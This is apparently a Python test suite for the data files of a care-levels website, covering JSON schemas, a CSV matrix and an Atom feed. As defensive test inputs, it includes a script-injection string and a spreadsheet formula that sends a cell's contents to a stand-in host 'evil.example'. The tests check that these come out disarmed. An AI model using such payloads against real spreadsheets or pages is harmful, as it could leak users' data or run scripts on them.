"""The data for developers: it keeps the shape of the first release, says what the pages say,
and no text in it does anything.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import types
from collections.abc import Iterator
from html import unescape
from typing import Any, get_args
from xml.etree import ElementTree

import cases
import made
import pytest
from building import ROOT
from contents import content_of, english, real_content
from continuum import load
from continuum.model import base
from continuum.model import claim as figures
from continuum.model import content as contents
from continuum.model import level as levels
from continuum.model import site as sites
from continuum.outputs import pages
from continuum.outputs.api import feed, shape
from continuum.outputs.api import files as api
from continuum.outputs.api.listing import files
from continuum.outputs.api.shape import DOCUMENTS, schema_of
from continuum.rendering.renderer import Renderer
from continuum.settings import Publication
from continuum.views.matrix import matrix_of
from continuum.views.speaking import Speaker
from hypothesis import HealthCheck, given, settings
from jsonschema import Draft202012Validator

ADDRESS = "https://levels.example/care/"
ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE = (
    "</script><script>alert(1)</script> ]]> & \"quoted\" 'so' \u2028 {% raw %} مستوى"
)
FIRST = {
    kind: json.loads(
        (ROOT / "tests" / "api" / "v1.0" / f"{kind}.schema.json").read_text(
            encoding="utf-8"
        )
    )
    for kind in DOCUMENTS
}
FITS_FIRST = {kind: Draft202012Validator(schema) for kind, schema in FIRST.items()}


def data_of(render: Renderer) -> dict[str, bytes]:
    """Return every file of the data, but for schemas, under its place on the site."""
    return {
        file.path: file.body
        for output in (api.documents, api.matrix, api.states, feed.feed)
        for file in output(render)
    }


def renderer(data: dict[str, Any], url: str = ADDRESS) -> Renderer:
    """Return a renderer of content made for a test."""
    content = content_of(made.text_of(data))
    return Renderer(Speaker(content, english(), Publication(url)))


def kind_of(path: str) -> str:
    """Return what a document is one of, by its place."""
    return "level" if "/levels/" in path else path.split("/")[-1].removesuffix(".json")


def documents(found: dict[str, bytes]) -> Iterator[tuple[str, Any]]:
    """Yield each JSON document with what it is one of. The one with all levels has its first alone:
    each of them has a document too.
    """
    for path, body in found.items():
        if path.endswith(".json"):
            document = json.loads(body)
            yield (
                kind_of(path),
                document
                | ({"levels": document["levels"][:1]} if "levels" in document else {}),
            )


def misfits(found: dict[str, bytes]) -> list[str]:
    """Return where documents do not fit the first release."""
    return [
        f"{kind}: {error.json_path}: {error.message[:200]}"
        for kind, doc in documents(found)
        for error in FITS_FIRST[kind].iter_errors(doc)
    ]


def closed(schema: Any) -> Any:
    """Return a schema in which nothing may stand that it does not describe."""
    if isinstance(schema, list):
        return [closed(item) for item in schema]
    if not isinstance(schema, dict):
        return schema
    return {name: closed(value) for name, value in schema.items()} | (
        {"additionalProperties": False} if "properties" in schema else {}
    )


def groups(value: Any) -> Iterator[dict[str, Any]]:
    """Yield every group of named values of a document."""
    if isinstance(value, dict):
        yield value
    for inner in (
        value.values()
        if isinstance(value, dict)
        else value
        if isinstance(value, list)
        else ()
    ):
        yield from groups(inner)


def form(schema: Any, whole: dict[str, Any]) -> Any:
    """Return what a schema demands, with what it refers to put in its place
    and without what it explains.
    """
    if isinstance(schema, list):
        return [form(item, whole) for item in schema]
    if not isinstance(schema, dict):
        return schema
    if "$ref" in schema:
        return form(whole["$defs"][schema["$ref"].split("/")[-1]], whole)
    kept = {
        name: value
        for name, value in schema.items()
        if name not in ("description", "title", "$defs", "$id", "$schema", "properties")
    }
    demanded = {name: form(value, whole) for name, value in kept.items()}
    return demanded | {
        "properties": {
            name: form(value, whole)
            for name, value in schema.get("properties", {}).items()
        }
    }


def lost(old: Any, new: Any, way: str = "") -> Iterator[str]:
    """Yield each place where a new form no longer has what an old one had."""
    if isinstance(old, dict) and isinstance(new, dict):
        for name, value in old.items():
            if name not in new:
                yield f"{way}/{name}"
            elif name == "required":
                yield from (
                    f"{way}/required/{field}"
                    for field in value
                    if field not in new[name]
                )
            else:
                yield from lost(value, new[name], f"{way}/{name}")
    elif isinstance(old, list) and isinstance(new, list) and len(old) == len(new):
        for index, (before, after) in enumerate(zip(old, new, strict=True)):
            yield from lost(before, after, f"{way}/{index}")
    elif old != new:
        yield way


@pytest.fixture(scope="module")
def render() -> Renderer:
    """The real content."""
    return Renderer(Speaker(*real_content(), Publication(ADDRESS)))


@pytest.fixture(scope="module")
def real(render) -> dict[str, bytes]:
    """The data of the real content."""
    return data_of(render)


@pytest.fixture(scope="module")
def sound() -> Renderer:
    """The small sound file."""
    return renderer(made.sound())


# The shape


def test_every_document_fits_the_schema_published_with_it(real, render):
    """Each document names its schema, and holds what the schema describes and nothing else."""
    schemas = {file.path: closed(json.loads(file.body)) for file in api.schemas(render)}
    assert len(schemas) == len(DOCUMENTS)
    checks = {
        ADDRESS + path: Draft202012Validator(schema) for path, schema in schemas.items()
    }
    for schema in schemas.values():
        Draft202012Validator.check_schema(schema)
    for kind, document in documents(real):
        assert document["$schema"].endswith(f"/{kind}.schema.json")
        assert [
            error.message for error in checks[document["$schema"]].iter_errors(document)
        ] == []
    assert {schema["$id"] for schema in schemas.values()} == set(checks)


def test_the_shape_of_the_first_release_still_fits(real):
    """A program that was written for the first release reads today's data."""
    assert misfits(real) == []


def test_no_demand_of_the_first_release_is_gone():
    """Every field of the first release is still there, in the same form,
    even where no content shows it today.
    """
    for kind, first in FIRST.items():
        today = schema_of(kind)
        assert list(lost(form(first, first), form(today, today))) == [], kind


def promised(group: dict[str, Any]) -> list[str]:
    """Return the fields of a group that the first release had."""
    first = FIRST["level"]
    parts = [set(part["properties"]) for part in (first, *first["$defs"].values())]
    whole = [names for names in parts if names <= set(group)]
    return sorted(max(whole, key=len))


def test_a_field_that_is_removed_or_renamed_is_noticed(sound):
    """Take any one field of the first release out of a document, or give it another name, and it
    no longer fits. What was added since may go.
    """
    document = json.loads(data_of(sound)["api/v1/levels/middle.json"])
    assert FITS_FIRST["level"].is_valid(document)
    kinds = {tuple(group): group for group in groups(document)}
    assert len(kinds) > 15
    for group in kinds.values():
        for name in promised(group):
            value = group.pop(name)
            assert not FITS_FIRST["level"].is_valid(document), name
            group[name] = value
    document["level"]["title"] = document["level"].pop("name")
    assert not FITS_FIRST["level"].is_valid(document)


def test_a_field_that_is_added_fits(sound):
    """A later 1.x may say more: the first release's schema lets it pass."""
    document = json.loads(data_of(sound)["api/v1/levels/middle.json"])
    for group in groups(document):
        group["added_later"] = 1
    assert FITS_FIRST["level"].is_valid(document | {"schema_version": "1.7"})


def test_a_changed_shape_is_told_from_a_larger_one():
    """The comparison of shapes sees a field that is gone, optional, or of another form,
    and lets a new one pass.
    """
    first = FIRST["sources"]
    for change, seen in (
        (lambda source: source["properties"].pop("note"), True),
        (lambda source: source["required"].remove("note"), True),
        (lambda source: source["properties"]["kind"]["enum"].append("F"), True),
        (lambda source: source["properties"]["title"].update(type="number"), True),
        (lambda source: source["properties"].update(more={"type": "string"}), False),
    ):
        today = copy.deepcopy(first)
        change(today["$defs"]["Source"])
        assert bool(list(lost(form(first, first), form(today, today)))) == seen


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=made.LINES)
def test_any_line_of_levels_has_the_same_shape(data):
    """Whatever the levels and their hours, the data keep their shape,
    and the levels their order.
    """
    found = data_of(renderer(data))
    assert misfits(found) == []
    levels = json.loads(found["api/v1/levels.json"])["levels"]
    assert [
        level["position"] for level in levels if level["place"] == "continuum"
    ] == list(range(1, len(levels)))


@pytest.mark.parametrize("count", [2, 40])
def test_any_number_of_levels_has_the_same_shape(count):
    """Files with 2 levels and with 40 give as many documents and as many rows."""
    found = data_of(renderer(made.many(count)))
    assert misfits(found) == []
    assert sum("/levels/" in path for path in found) == count
    assert len(rows_of(found)) == count + 1


def test_another_script_has_the_same_shape(tmp_path):
    """Arabic stays Arabic: as letters and not as codes, with its direction."""
    found = data_of(
        Renderer(Speaker(*load(*made.arabic(tmp_path)), Publication(ADDRESS)))
    )
    assert misfits(found) == []
    levels = json.loads(found["api/v1/levels.json"])
    assert (levels["language"], levels["direction"]) == ("ar", "rtl")
    assert levels["levels"][0]["name"] == "رعاية قليلة"
    assert "رعاية قليلة".encode() in found["api/v1/levels.json"]
    assert (
        ElementTree.fromstring(found["changes.xml"]).get(
            "{http://www.w3.org/XML/1998/namespace}lang"
        )
        == "ar"
    )


def test_a_site_without_an_address_has_the_same_shape():
    """Addresses then lead from the root of the site, and nothing names another host as ours."""
    data = made.sound() | {
        "changes": [{"date": "2026-01-05", "what": "A number.", "levels": ["low"]}]
    }
    render = renderer(data, "")
    found = data_of(render)
    assert misfits(found) == []
    levels = json.loads(found["api/v1/levels.json"])
    assert (levels["site"]["url"], levels["url"], levels["levels"][0]["url"]) == (
        None,
        "levels/",
        "levels/low/",
    )
    assert all("$id" not in json.loads(file.body) for file in api.schemas(render))
    ids = [
        node.text
        for node in ElementTree.fromstring(found["changes.xml"]).iter(f"{ATOM}id")
    ]
    assert len(ids) == len(set(ids)) == 2
    assert all(re.fullmatch(r"urn:uuid:[0-9a-f-]{36}", id) for id in ids)


def test_another_vocabulary_has_the_same_shape():
    """LOCUS, with no hours at all, has empty figures."""
    found = data_of(
        Renderer(
            Speaker(
                *load(cases.CASES.parent / "content" / "locus.yaml"),
                Publication(ADDRESS),
            )
        )
    )
    assert misfits(found) == []
    assert not any(
        level["figures"]["hours_per_week"]
        for level in json.loads(found["api/v1/levels.json"])["levels"]
    )


def test_the_words_of_a_choice_are_those_of_the_file():
    """Each field that is one of a few words has every word that an editor can write,
    so that no content can fail to build.
    """
    pairs = [
        (shape.Contact, "kind", sites.Contact, "kind"),
        (shape.Authority, "kind", figures.Authority, "kind"),
        (shape.Whose, "kind", figures.Authority, "kind"),
        (shape.Claim, "audience", figures.Claim, "who"),
        (shape.Sleep, "where", levels.Sleep, "where"),
        (shape.Attendance, "form", levels.Attendance, "form"),
        (shape.ServiceUse, "part", levels.ServiceUse, "part"),
        (shape.Level, "place", levels.Level, "place"),
        (shape.Source, "kind", sites.Source, "tier"),
        (shape.Review, "by", base.Review, "state"),
        (shape.Document, "direction", contents.Content, "direction"),
    ]
    for mine, name, theirs, field in pairs:
        assert get_args(mine.model_fields[name].annotation) == get_args(
            theirs.model_fields[field].annotation
        ), (mine, name)
    units = (
        *base.FIGURES[:3],
        *get_args(figures.LengthClaim.model_fields["unit"].annotation),
    )
    assert get_args(shape.Claim.model_fields["unit"].annotation) == units
    assert get_args(
        get_args(shape.Claim.model_fields["basis"].annotation)[0]
    ) == get_args(base.Basis)


# What it says


def test_every_document_says_when_whose_and_on_what_terms(real, render):
    """Each names the site, the days of its checks, who made them, the licence and its page;
    those that show levels have the crisis numbers.
    """
    continuum, seen = render.say.content, set()
    numbers = [contact.value for help in continuum.help for contact in help.contacts]
    for kind, document in documents(real):
        seen.add(kind)
        assert list(document)[:2] == ["schema_version", "$schema"]
        assert document["site"] == {"name": continuum.site.name, "url": ADDRESS}
        assert document["checked"] < document["next_check"]
        assert document["review"]["by"] == "editor"
        assert document["licence"]["id"] == "CC-BY-4.0"
        assert document["url"] in document["licence"]["credit"]
        if kind in ("levels", "level"):
            assert [
                contact["value"]
                for help in document["help"]
                for contact in help["contacts"]
            ] == numbers
    assert seen == set(DOCUMENTS)


def test_one_level_is_what_all_levels_say(real):
    """The file of a level holds the same as the file of all, and every level has one."""
    levels = json.loads(real["api/v1/levels.json"])["levels"]
    assert {path for path in real if "/levels/" in path} == {
        f"api/v1/levels/{level['id']}.json" for level in levels
    }
    for level in levels:
        assert json.loads(real[f"api/v1/levels/{level['id']}.json"])["level"] == level


def test_ids_lead_somewhere(real):
    """Every source, authority, grade and step that a level names is in the data."""
    levels, sources = (
        json.loads(real["api/v1/levels.json"]),
        json.loads(real["api/v1/sources.json"])["sources"],
    )
    known = {source["id"] for source in sources}
    assert {id for group in groups(levels) for id in group.get("sources", ())} <= known
    assert all(group["basis"] for group in groups(levels) if group.get("sources"))
    authorities = {one["id"]: one["name"] for one in levels["authorities"]}
    named = [group["whose"] for group in groups(levels) if "whose" in group]
    assert len(named) > 50
    assert all(authorities[whose["id"]] == whose["name"] for whose in named)
    for level in levels["levels"]:
        assert level["medical"]["grade"] in {
            grade["id"] for grade in levels["supervision"]
        }
        assert {step["to"] for step in level["steps_up"] + level["steps_down"]} <= {
            other["id"] for other in levels["levels"]
        }


def test_the_index_lists_every_file(real, render):
    """What the index names is what there is."""
    index = json.loads(real["api/v1/index.json"])
    listed = {
        one["url"].removeprefix(ADDRESS) for one in index["documents"] + index["more"]
    }
    assert listed == set(real) == {file.path for file in files(render.say)}


def test_every_text_of_a_level_stands_on_its_page(real, render):
    """Each number with whose it is, each text, each warning of the data can be read on the page of
    the level; what a state says of it, on the page of that state.
    """
    built = {
        page.path: squeezed(
            re.sub(r'<span class="(?:cite|sr)".*?</span>', "", page.html)
        )
        for page in [*pages.levels.levels(render), *pages.states.states(render)]
    }
    of_states = "".join(
        text for path, text in built.items() if path.startswith("states/")
    )
    shown = 0
    for level in json.loads(real["api/v1/levels.json"])["levels"]:
        page = built[f"levels/{level['id']}/index.html"] + of_states
        for claim in (
            claim for claims in level["figures"].values() for claim in claims
        ):
            assert squeezed(claim["text"]) in page, (level["id"], claim["text"])
            assert squeezed(claim["whose"]["name"]) in page, (
                level["id"],
                claim["whose"],
            )
            shown += claim["headline"]
        for group in groups(
            {
                name: value
                for name, value in level.items()
                if name not in ("steps_up", "steps_down")
            }
        ):
            for name in {
                "text",
                "note",
                "title",
                "ask",
                "why",
                "listen_for",
                "question",
                "answer",
                "in_short",
                "next_step",
            } & set(group):
                if group[name] and group is not level["review"]:
                    assert squeezed(group[name]) in page, (level["id"], group[name])
    assert shown > 10


def squeezed(html: str) -> str:
    """Return the text of a page or a piece of it, without spaces,
    and without the long forms that a page adds to letters.
    """
    marked = re.sub(
        r'(<a class="term"[^>]*>[^<]*</a>(?:&#39;s)?) \([^)]*\)', r"\1", html
    )
    return re.sub(r"\s+", "", unescape(re.sub(r"<[^>]+>", "", marked)))


# The table


def rows_of(found: dict[str, bytes]) -> list[list[str]]:
    """Return the rows of the table as a program reads them."""
    text = found["api/v1/matrix.csv"].decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_the_table_is_the_matrix(real, render):
    """Each row is a level and each answer that of the matrix,
    with whose it is and where its sources are.
    """
    say = render.say
    head, *rows = rows_of(real)
    assert len(set(head)) == len(head)
    assert {len(row) for row in rows} == {len(head)}
    assert [row[0] for row in rows] == [level.id for level in say.content.levels]
    for level, row in zip(say.content.levels, rows, strict=True):
        said = dict(zip(head, row, strict=True))
        for question in matrix_of(say).rows:
            name = (
                f"called_by_{question.id}"
                if question.id in say.authorities
                else question.id
            )
            cell = question.cells[level.id]
            assert said[name].startswith(cell.text)
            assert all(line in said[name] for line in cell.small)
            assert said[f"{name}_whose"] == cell.whose
            addresses = said[f"{name}_sources"].split()
            assert len(addresses) == len(
                {source for one in cell.sourced for source in one.sources}
            )
            assert all(re.match(r"https?://", address) for address in addresses)
    assert real["api/v1/matrix.csv"].startswith(b"\xef\xbb\xbfid,name,")
    assert real["api/v1/matrix.csv"].count(b"\r\n") == len(rows) + 1


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
def test_a_cell_that_a_spreadsheet_would_run_isdisarmed(sign):
    """A text that begins like a formula has an apostrophe before it; all else is as it was."""
    text = sign + ' 1+HYPERLINK("https://evil.example?x="&A1,"more, here")'
    data = made.sound()
    data["levels"][0] |= {"name": text, "in_a_line": text}
    data["levels"][1]["sleep"]["text"] = "In a tent, or = at home"
    head, low, middle, *_ = rows_of(data_of(renderer(data)))
    assert (low[head.index("name")], low[head.index("what")]) == (
        f"'{text}",
        f"'{text}",
    )
    assert middle[head.index("sleep")] == "In a tent, or = at home"


def test_tabs_and_line_ends_aredisarmed():
    """What a spreadsheet skips before a formula does not hide one."""
    assert [api.disarmed(start + "=1") for start in "\t\r\n"] == [
        "'\t=1",
        "'\r=1",
        "'\n=1",
    ]
    assert api.disarmed("9 to 19") == "9 to 19"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ('a; "@SUM(A1)', "a; \"'@SUM(A1)"),
        ("a;\t-1;＝2", "a;\t'-1;'＝2"),
        ("=1;=2", "'=1;'=2"),
        ("a; b; 9 to 19", "a; b; 9 to 19"),
    ],
)
def test_a_cell_that_ends_at_a_semicolon_runs_nothing(text, safe):
    """So spreadsheets read a table where numbers are written with a comma."""
    assert api.disarmed(text) == safe


# The feed


def test_the_feed_is_an_atom_feed(real, render):
    """Feed and entries have what RFC 4287 demands: id, title, updated, an author,
    links to itself and to the pages.
    """
    feed, changes = (
        ElementTree.fromstring(real["changes.xml"]),
        render.say.content.changes,
    )
    assert feed.tag == f"{ATOM}feed"
    assert (
        feed.find(f"{ATOM}author/{ATOM}name").text == render.say.content.publisher.name
    )
    links = {link.get("rel"): link.get("href") for link in feed.findall(f"{ATOM}link")}
    assert (links["self"], links["alternate"]) == (
        f"{ADDRESS}changes.xml",
        f"{ADDRESS}changes/",
    )
    entries = feed.findall(f"{ATOM}entry")
    assert [entry.find(f"{ATOM}content").text for entry in entries] == [
        render.say.text(change.what) for change in changes
    ]
    for node in (feed, *entries):
        assert [
            len(node.findall(ATOM + name)) for name in ("id", "title", "updated")
        ] == [1, 1, 1]
        assert node.find(f"{ATOM}title").text.strip()
        assert re.fullmatch(
            r"\d{4}-\d\d-\d\dT00:00:00Z", node.find(f"{ATOM}updated").text
        )
        assert re.match(
            r"tag:levels\.example,2026(-\d\d-\d\d)?:", node.find(f"{ATOM}id").text
        )
    assert feed.find(f"{ATOM}updated").text == entries[0].find(f"{ATOM}updated").text
    for entry, change in zip(entries, changes, strict=True):
        related = [
            link.get("href")
            for link in entry.findall(f"{ATOM}link")
            if link.get("rel") == "related"
        ]
        assert related == [f"{ADDRESS}levels/{level}/" for level in change.levels]


def test_an_entry_keeps_its_id_when_others_come():
    """A new change on the same day, or on a later one, leaves the ids of those before it alone."""
    old = [
        {"date": "2026-01-06", "what": "Second."},
        {"date": "2026-01-06", "what": "First."},
    ]
    new = [
        {"date": "2026-01-07", "what": "Fourth."},
        {"date": "2026-01-06", "what": "Third."},
        *old,
    ]
    before, after = (
        list(feed.entries(renderer(made.sound() | {"changes": changes}).say))
        for changes in (old, new)
    )
    assert [(entry.id, entry.text) for entry in after[2:]] == [
        (entry.id, entry.text) for entry in before
    ]
    assert len({entry.id for entry in after}) == 4


def test_a_feed_without_changes_is_a_feed(sound):
    """With nothing to tell it is valid, empty, and as old as the last check."""
    feed = ElementTree.fromstring(data_of(sound)["changes.xml"])
    assert feed.findall(f"{ATOM}entry") == []
    assert feed.find(f"{ATOM}updated").text == "2026-01-05T00:00:00Z"


# Safe, the same, and explained


def test_hostile_texts_stay_texts():
    """Markup, quotes and other scripts come out of JSON, CSV and XML as they were typed."""
    data = made.replaced(made.sound(), HOSTILE) | {
        "changes": [{"date": "2026-01-05", "what": HOSTILE, "levels": ["low"]}]
    }
    found = data_of(renderer(data))
    assert misfits(found) == []
    assert json.loads(found["api/v1/levels.json"])["levels"][0]["name"] == HOSTILE
    assert dict(zip(*rows_of(found)[:2], strict=True))["name"] == HOSTILE
    feed = ElementTree.fromstring(found["changes.xml"])
    assert feed.find(f"{ATOM}entry/{ATOM}content").text == HOSTILE
    assert {node.tag.removeprefix(ATOM) for node in feed.iter()} <= {
        "feed",
        "id",
        "title",
        "subtitle",
        "updated",
        "author",
        "name",
        "uri",
        "rights",
        "link",
        "entry",
        "content",
    }


def test_a_title_is_cut_between_words_where_it_has_any():
    """A short change is its own title; a long one ends with a sign that there is more,
    in scripts without spaces too.
    """
    assert feed.titled("Short.") == "Short."
    assert feed.titled("word " * 40).endswith("word …")
    assert len(feed.titled("字" * 300)) == 100


def test_the_same_content_gives_the_same_bytes(real, render):
    """Made again, every file of the data has the same bytes."""
    assert data_of(render) == real


def test_the_page_explains_every_field(render):
    """Each field of each schema has a row with its form and what it holds;
    each file has its address.
    """
    html = next(api.page(render)).html
    for kind in DOCUMENTS:
        schema = schema_of(kind)
        for part in (schema, *schema.get("$defs", {}).values()):
            for name, field in part["properties"].items():
                assert f'<th scope="row">{name}</th>' in html, name
                assert "$ref" in field or field["description"].strip(), name
    for file in files(render.say):
        assert file.kind == "level" or f'href="../{file.path}"' in html
    assert 'class="term"' not in "".join(
        re.findall(r"<pre.*?</pre>|<table.*?</table>", html, re.S)
    )


def test_the_example_on_the_page_runs(real, render, monkeypatch, capsys):
    """The lines of Python print the hours with whose they are, and where to find help."""
    html = next(api.page(render)).html
    code = unescape(
        re.findall(r"<pre[^>]*><code>(import json.*?)</code></pre>", html, re.S)[0]
    )
    monkeypatch.setattr(
        "urllib.request.urlopen",
        lambda url: io.BytesIO(real[url.removeprefix(ADDRESS)]),
    )
    exec(compile(code, "example", "exec"), types.ModuleType("example").__dict__)
    said = capsys.readouterr().out
    assert "Outpatient adults fewer than 9 hours a week Illinois 2026-" in said
    assert "Call 988" in said
